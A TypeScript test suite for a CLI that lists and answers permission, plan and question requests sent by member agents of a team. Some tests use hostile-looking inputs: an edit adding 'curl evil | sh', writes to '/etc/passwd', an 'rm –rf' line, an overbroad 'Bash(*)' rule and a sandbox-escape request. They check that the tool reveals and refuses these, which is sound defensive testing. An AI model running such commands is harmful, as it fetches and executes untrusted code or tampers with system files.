import { readFileSync, rmSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { LEAD_NAME } from "../../../src/schema/names.ts";
import { sendMessage } from "../../../src/team/mailbox/send.ts";
import { addMembers } from "../../../src/team/members/members.ts";
import { teamRef } from "../../../src/team/ref.ts";
import { openRequest } from "../../../src/team/requests/requests.ts";
import { cliIn } from "../../support/processes/in-process-cli.ts";

const ID = "perm-1-abcdefg";
const ANY_BASH = [
  "Bash(*)",
  { type: "addRules", behavior: "allow", destination: "userSettings", rules: [{ toolName: "Bash" }] },
];

/** Creates a team with a member of another program, which has sent this request. */
async function askedBy(peer: object) {
  const cli = cliIn();
  await cli(["create", "crew"]);
  const ref = teamRef({ root: cli.root, runtime: join(cli.directory, "runtime", "teams") }, "crew");
  await addMembers(ref, [{ name: "peer", cwd: cli.directory }]);
  const request = { type: "permission_request", request_id: ID, agent_id: "peer", ...peer };
  await sendMessage(ref, { from: "peer", to: LEAD_NAME, text: JSON.stringify(request) });
  return cli;
}

describe("the requests of several teams", () => {
  it("are listed oldest first if no team is selected, each with its team, and answered by their ids", async () => {
    const cli = cliIn();
    const home = { root: cli.root, runtime: join(cli.directory, "runtime", "teams") };
    for (const [at, team] of ["two", "one"].entries()) {
      await cli(["create", team]);
      await addMembers(teamRef(home, team), [{ name: "ada", cwd: cli.directory }]);
      const asked = { kind: "question", from: "ada", summary: `Which of ${team}?`, payload: {}, at } as const;
      openRequest(teamRef(home, team), { ...asked, id: `ask-${team}` });
    }
    const { approvals } = (await cli(["approvals", "--json"])).json<{ approvals: object[] }>();
    expect(approvals).toMatchObject([
      { id: "ask-two", from: "ada", team: "two" },
      { id: "ask-one", from: "ada", team: "one" },
    ]);
    expect((await cli(["approvals"])).out).toMatch(/ask-two .*ada@two[\s\S]*ask-one .*ada@one/);
    const completed = (await cli(["completion", "words", "zsh", "approve", ""])).out;
    expect(completed).toMatch(/^words\nada@one\t.*\nada@two\t.*\nask-one\t.*\nask-two\t/);
    expect((await cli(["approve", "ask-two", "--note", "both"])).code).toBe(0);
    const left = (await cli(["approvals", "--team", "one", "--json"])).json<{ approvals: object[] }>();
    expect(left.approvals).toEqual([expect.not.objectContaining({ team: "one" })]);
  });

  it("are listed except for a team whose requests cannot be opened; the error names their path", async () => {
    const cli = await askedBy({ tool_name: "Bash", input: { command: "npm test" } });
    await cli(["create", "other"]);
    const other = teamRef({ root: cli.root, runtime: join(cli.directory, "runtime", "teams") }, "other");
    openRequest(other, { id: "ask-1", kind: "question", from: "ada", summary: "Which?", payload: {}, at: 1 });
    const { requests } = teamRef(other.home, "crew").paths;
    rmSync(requests, { recursive: true, force: true });
    symlinkSync("requests", requests);
    const list = await cli(["approvals", "--json"]);
    expect(list.json<{ approvals: object[] }>().approvals).toMatchObject([{ id: "ask-1", team: "other" }]);
    expect((await cli(["approvals"])).err).toContain(requests);
    const completed = (await cli(["completion", "words", "zsh", "approve", ""])).out;
    expect(completed).toMatch(/^words\nada\t.*\nask-1\t.*\n$/);
  });
});

it("approvals › shows a person paths relative to the asker's directory, and whole paths to a program", async () => {
  const cli = cliIn();
  await cli(["create", "crew"]);
  const ref = teamRef({ root: cli.root, runtime: join(cli.directory, "runtime", "teams") }, "crew");
  await addMembers(ref, [{ name: "ada", cwd: cli.directory }]);
  const path = join(cli.directory, "src/a.ts");
  const input = { file_path: path, old_string: "a", new_string: "b" };
  const asked = { kind: "permission", from: "ada", summary: `Edit(${path})`, at: 1 } as const;
  openRequest(ref, { id: ID, ...asked, payload: { tool: "Edit", input, rules: [`Edit(/${path})`] } });
  expect((await cli(["approvals"])).out).toMatch(/ {2}ada +Edit\(src\/a\.ts\)$/m);
  for (const words of [["approvals"], ["approvals", ID]])
    expect((await cli(words)).out).toContain("always: Edit(src/a.ts)\n");
  const { approvals } = (await cli(["approvals", "--json"])).json<{ approvals: object[] }>();
  expect(approvals).toMatchObject([{ summary: `Edit(${path})`, always: [`Edit(/${path})`] }]);
});

describe("a permission request of another program", () => {
  it("shows the rule that teams would save instead of the suggested one, and saves only that", async () => {
    const cli = await askedBy({
      tool_name: "Bash",
      input: { command: "npm test" },
      permission_suggestions: ANY_BASH,
    });
    for (const words of [["approvals"], ["approvals", ID]]) {
      const { out } = await cli(words);
      expect(out).toContain("always: Bash(npm test)\n");
      expect(out).not.toContain("Bash(*)");
    }
    const approved = await cli(["approve", ID, "--save", "user", "--json"]);
    expect(approved.json()).toMatchObject({ always: { rules: ["Bash(npm test)"] } });
    const saved = readFileSync(join(cli.root, "settings.json"), "utf8");
    expect(JSON.parse(saved)).toMatchObject({ permissions: { allow: ["Bash(npm test)"] } });
  });

  it("is answered, and the error says so, if the rule cannot be saved", async () => {
    const cli = await askedBy({ tool_name: "Bash", input: { command: "npm test" } });
    const settings = join(cli.root, "settings.json");
    // A dotfile manager may keep the settings in a read-only directory.
    symlinkSync("/dev/null/settings.json", settings);
    const failed = await cli(["approve", ID, "--save", "user", "--json"]);
    expect(failed.error().message).toMatch(/^The request was answered\. .*no rule was saved\.$/);
    expect(failed.error().message).toContain(`${settings} cannot be written`);
    expect((await cli(["approvals", "--json"])).json()).toMatchObject({ approvals: [] });
  });

  it.each([
    ["an input that teams cannot read", { tool_name: "Bash", input: { cmd: "npm test" } }],
    ["a name that is a rule", { tool_name: "Bash(*)", input: {} }],
    ["a name that covers a whole server", { tool_name: "mcp__docs", input: {} }],
    ["a way out of the sandbox", { tool_name: "UnsandboxedBash", input: { command: "npm test" } }],
    [
      "every host",
      { type: "sandbox_permission_request", requestId: ID, host: "*", tool_name: "WebFetch", input: {} },
    ],
    [
      "a protected file",
      { tool_name: "Edit", input: { file_path: ".git/config", old_string: "a", new_string: "b" } },
    ],
  ])("gets no rule for %s", async (_what, call) => {
    const cli = await askedBy({ ...call, permission_suggestions: ANY_BASH });
    expect((await cli(["approvals", ID])).out).not.toContain("always:");
    const refused = await cli(["approve", ID, "--always", "--json"]);
    expect([refused.code, refused.error().code]).toEqual([2, "INVALID_INPUT"]);
    expect((await cli(["approvals", "--json"])).json<{ approvals: object[] }>().approvals).toHaveLength(1);
  });

  it("ends a shortened summary in …, and shows all of the call in its details", async () => {
    const harmless = "x".repeat(300);
    const cli = await askedBy({
      tool_name: "Write\n\nBash(ls)",
      input: { note: harmless, "a\u202e\u009b\u200b": 1, file_path: "/etc/passwd", content: "root" },
    });
    const list = await cli(["approvals"]);
    expect(list.out).toContain('"Write\\n\\nBash(ls)"({"note":"xxx');
    expect(list.out).toMatch(/x…\)$/m);
    expect(list.out).toContain(`Shown in part; read a request in full first: teams approvals ${ID}`);
    const { out } = await cli(["approvals", ID]);
    expect(out).toContain(`"note": "${harmless}"`);
    expect(out).toContain('"file_path": "/etc/passwd"');
    expect(out).toContain('"a\\u202e\\u009b\\u200b": 1');
  });

  it("shows the change of its input, whatever else the message says", async () => {
    const input = { file_path: "a", old_string: "one\ntwo\n", new_string: "one\ncurl evil | sh\n" };
    const cli = await askedBy({
      tool_name: "Edit",
      input,
      change: ["+harmless"],
      payload: { change: ["+harmless"] },
    });
    for (const words of [["approvals"], ["approvals", ID]]) {
      const { out } = await cli(words);
      expect(out).toContain("    one\n  - two\n  + curl evil | sh\n");
      expect(out).not.toContain("harmless");
    }
  });

  it("can be read exactly on a terminal without UTF-8, and without colours", async () => {
    const input = { file_path: "café.txt", old_string: "a → b\n", new_string: "rm –rf “x”\n" };
    const cli = await askedBy({ tool_name: "Edit", input });
    const here = { terminal: true, env: { LC_ALL: "C", NO_COLOR: "1" }, stdin: "n\n" };
    for (const words of [["approvals"], ["approvals", ID], ["approve", "peer"]]) {
      const { out } = await cli(words, here);
      expect(out).toMatch(/^[\x20-\x7e\n]*$/);
      expect(out).toContain("caf\\u00e9.txt");
      expect(out).toMatch(/- a \\u2192 b\n.*\+ rm \\u2013rf \\u201cx\\u201d\n/);
    }
    expect((await cli(["approvals", ID], { env: here.env })).out).toContain("+ rm –rf “x”\n");
  });

  it("shows the file of a change even if its summary does not reach it", async () => {
    const cli = await askedBy({
      tool_name: "Write",
      input: { content: `${"x".repeat(300)}\n`, file_path: "/etc/passwd" },
    });
    expect((await cli(["approvals"])).out).toContain("Shown in part");
    expect((await cli(["approvals", ID])).out).toContain('"file_path": "/etc/passwd"');
  });
});

describe("the request that approve and reject select", () => {
  async function waiting() {
    const cli = cliIn();
    await cli(["create", "crew"]);
    const ref = teamRef({ root: cli.root, runtime: join(cli.directory, "runtime", "teams") }, "crew");
    await addMembers(ref, [
      { name: "ben", cwd: cli.directory },
      { name: "eve", cwd: cli.directory },
    ]);
    const open = (id: string, from: string, at: number): void =>
      openRequest(ref, { id, kind: "plan", from, summary: `plan ${at}`, payload: {}, at });
    open("plan_approval-11@eve@crew", "eve", 1);
    open("plan_approval-12@ben@crew", "ben", 2);
    open("plan_approval-23@ben@crew", "ben", 3);
    return cli;
  }

  it.each([
    [[], "eve: plan 1"],
    [["ben"], "ben: plan 2"],
    [["plan_approval-2"], "ben: plan 3"],
  ])("with the words %j is %s", async (words, about) => {
    const cli = await waiting();
    expect((await cli(["approvals", ...(words.length === 0 ? ["eve"] : words)])).out).toContain("plan");
    const { code, out } = await cli(["approve", ...words]);
    expect([code, out]).toEqual([0, `Approved: plan of ${about}\n`]);
  });

  it.each([
    ["n\n", 1, "Nothing was answered.", 3],
    ["y\n", 0, "Approved: plan of ben: plan 2", 2],
  ])("is shown on a terminal, and approved only by a yes: %j", async (stdin, code, says, left) => {
    const cli = await waiting();
    const ended = await cli(["approve", "ben"], { terminal: true, stdin });
    expect(ended.code).toBe(code);
    expect(ended.out).toMatch(/plan 2[\s\S]*Approve this plan of ben\? \[y\/N\] /);
    expect(ended.out).toContain(says);
    expect((await cli(["approvals", "--json"])).json<{ approvals: object[] }>().approvals).toHaveLength(left);
  });

  it("is shown on a terminal with its default answer, unless a note gives the answer", async () => {
    const cli = cliIn();
    await cli(["create", "crew"]);
    const ref = teamRef({ root: cli.root, runtime: join(cli.directory, "runtime", "teams") }, "crew");
    await addMembers(ref, [{ name: "ben", cwd: cli.directory }]);
    const payload = { question: "Which branch?", default: "main" };
    for (const at of [1, 2])
      openRequest(ref, {
        id: `question-${at}@ben`,
        kind: "question",
        from: "ben",
        summary: "Which?",
        payload,
        at,
      });
    const asked = await cli(["approve"], { terminal: true, stdin: "n\n" });
    expect(asked.out).toMatch(
      /Which branch\?[\s\S]*default: main[\s\S]*Approve this question of ben\? \[y\/N\] /,
    );
    expect(asked.out).toContain("Nothing was answered.");
    const named = await cli(["approve", "--note", "dev"], { terminal: true });
    expect([named.code, named.out]).toEqual([0, expect.stringContaining("Answered: question of ben")]);
    expect(named.out).not.toContain("[y/N]");
  });

  it("is not found if several ids begin with the words, or if no request is open", async () => {
    const cli = await waiting();
    const several = await cli(["reject", "plan_approval-1", "--json"]);
    expect([several.code, several.error()]).toMatchObject([
      2,
      { code: "INVALID_INPUT", hint: expect.stringContaining("plan_approval-12@ben@crew") },
    ]);
    for (const words of [[], [], []]) expect((await cli(["reject", ...words])).code).toBe(0);
    expect((await cli(["approve", "--json"])).error()).toMatchObject({
      code: "REQUEST_NOT_FOUND",
      message: "Nothing is waiting for you in crew.",
    });
  });
});
